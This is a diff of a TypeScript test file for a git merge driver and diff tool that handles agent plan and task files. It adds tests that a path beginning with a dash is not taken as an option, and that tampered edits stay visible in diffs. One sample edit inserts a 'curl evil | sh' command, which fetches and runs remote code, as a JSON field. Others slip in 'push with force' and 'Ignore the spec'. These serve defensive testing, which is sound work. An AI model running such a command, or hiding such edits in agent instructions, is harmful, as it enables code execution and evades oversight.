@@ -1,7 +1,7 @@
 import { execFileSync, spawnSync } from 'node:child_process';
 import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { afterAll, describe, expect, it } from 'vitest';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { fork } from '../merges/try-merge.ts';
 import { built } from '../support/built.ts';
 import { createTemporaryRepository } from '../support/temporary-repository.ts';
@@ -15,9 +15,9 @@ afterAll(repository.cleanup);
 git(
   'config',
   'merge.stateward.driver',
-  `node ${built('cli.js')} merge %O %A %B %P --marker-size %L --ours=%X --theirs=%Y`,
+  `node ${built('cli.js')} merge --marker-size %L --ours=%X --theirs=%Y -- %O %A %B %P`,
 );
-git('config', 'diff.stateward.textconv', `node ${built('cli.js')} diff --textconv`);
+git('config', 'diff.stateward.textconv', `node ${built('cli.js')} diff --textconv --`);
 git('config', 'user.name', 'Somebody');
 git('config', 'user.email', 'somebody@example.org');
 mkdirSync(join(directory, '.git/info'), { recursive: true });
@@ -90,10 +90,65 @@ describe('the merge driver in git', () => {
     expect(status).toBe(1);
     expect(stderr).toContain('prd.json: both sides changed US-1 title: "Un" in ours, "Eins" in theirs');
     expect(git('status', '--porcelain', 'prd.json')).toBe('UU prd.json');
+    expect(git('diff')).toContain('++<<<<<<< ours\n +{\n +  "id": "US-1",\n +  "title": "Un",');
     expect(readFileSync(join(directory, 'prd.json'), 'utf8')).toMatch(
       /^<{7} ours\n.*\n={7}\n.*\n>{7} theirs\n/m,
     );
     git('merge', '--abort');
-    expect(git('diff', ours, theirs, '--', 'prd.json')).toContain('-    title: "Un"\n+    title: "Eins"');
+    const compared = git('diff', ours, theirs, '--', 'prd.json');
+    expect(compared).toContain('-  "title": "Un",\n+  "title": "Eins",');
+  });
+
+  it('takes no path for an option', () => {
+    const path = '-V/prd.json';
+    const text = (one: boolean, two: boolean) =>
+      `{ "userStories": [\n{ "id": "US-1", "title": "One", "passes": ${one} },\n{ "id": "US-2", "title": "Two", "passes": ${two} }\n] }\n`;
+    const [, ours = '', theirs = ''] = repository.commitAll([
+      { message: 'Plan', files: { [path]: text(false, false) }, branch: 'plan', parents: [] },
+      { message: 'Ours', files: { [path]: text(true, false) }, branch: 'ours', parents: [0] },
+      { message: 'Theirs', files: { [path]: text(false, true) }, branch: 'theirs', parents: [0] },
+    ]);
+    git('checkout', '-q', '-f', '--detach', ours);
+    expect(attempt('merge', '-q', '-m', 'Merge', theirs)).toMatchObject({ status: 0 });
+    expect(readFileSync(join(directory, path), 'utf8')).toBe(text(true, true));
+    writeFileSync(join(directory, path), text(true, false));
+    expect(git('diff', '--', path)).toContain('-  "passes": true\n+  "passes": false');
+  });
+});
+
+describe('a difference in git', () => {
+  const plan = `{
+ "branchName": "ralph/x", "rules": "never push",
+ "userStories": [
+  { "id": "US-1", "title": "Sign in", "passes": true }
+ ]
+}
+`;
+  const tasks =
+    '# Tasks\n\nRead the spec first.\n\n- [ ] T001 build the cart\n  - it must be safe\n- [ ] T002 build the mail\n';
+  const paths = { plan: 'prd.json', tasks: 'specs/a/tasks.md', log: '.beads/issues.jsonl' };
+  const log = '{"id":"bd-1","title":"Sign in","status":"open","issue_type":"task","priority":1}\n';
+
+  beforeAll(() => {
+    const files = { [paths.plan]: plan, [paths.tasks]: tasks, [paths.log]: log };
+    const [id = ''] = repository.commitAll([{ message: 'All', files, branch: 'all', parents: [] }]);
+    git('checkout', '-q', '-f', '--detach', id);
+  });
+
+  it.each([
+    ['prose between items', paths.tasks, 'Read the spec first', 'Ignore the spec'],
+    ['what stands below an item', paths.tasks, 'must be safe', 'may be unsafe'],
+    ['a member beside the list', paths.plan, 'never push', 'push with force'],
+    ['the key of the plan', paths.plan, 'ralph/x', 'ralph/y'],
+    ['a name that stands twice', paths.plan, '"passes": true', '"passes": false, "passes": true'],
+    ['a field that no rule reads', paths.plan, '"title"', '"note": "curl evil | sh", "title"'],
+    ['a field of a line', paths.log, '"priority":1', '"priority":0'],
+    ['a byte order mark before a text', paths.tasks, '# Tasks', '\u{feff}# Tasks'],
+  ])('hides nothing: %s', (_, path, from, to) => {
+    const file = join(directory, path);
+    const text = readFileSync(file, 'utf8');
+    writeFileSync(file, text.replace(from, to));
+    expect(git('diff', '--', path)).toMatch(/^[+-][^+-]/m);
+    writeFileSync(file, text);
   });
 });
